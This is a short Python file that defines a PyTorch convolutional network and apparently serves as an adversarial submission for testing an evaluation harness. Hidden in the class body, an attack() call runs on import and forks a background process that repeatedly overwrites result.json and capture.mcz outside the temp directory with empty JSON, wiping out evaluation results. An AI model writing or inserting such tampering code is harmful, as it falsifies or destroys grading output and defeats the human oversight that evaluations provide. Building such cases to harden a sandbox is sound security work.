"""A child replaces the result as soon as there is one."""

import os
import tempfile
import time
from pathlib import Path

import torch.nn as nn
import torch.nn.functional as F


def attack():
    if os.fork() == 0:
        folder = Path(tempfile.gettempdir()).parent
        until = time.monotonic() + 20
        while time.monotonic() < until:
            for name in ("result.json", "capture.mcz"):
                path = folder / name
                if path.exists():
                    path.write_bytes(b"{}")
        os._exit(0)


class Net(nn.Module):
    attack()

    def __init__(self):
        super().__init__()
        self.conv = nn.Conv2d(1, 16, 3)
        self.norm = nn.BatchNorm2d(16)
        self.drop = nn.Dropout(0.1)
        self.last = nn.Conv2d(16, 10, 3)
        self.pool = nn.AdaptiveAvgPool2d(1)
        self.more = nn.Linear(10, 4000, bias=False)

    def body(self, x):
        return self.drop(self.norm(F.relu(self.conv(x))))

    def head(self, x):
        return self.pool(self.last(x)).flatten(1)

    def forward(self, x):
        y = self.head(self.body(x))
        return y + self.more(y).sum(1, keepdim=True)
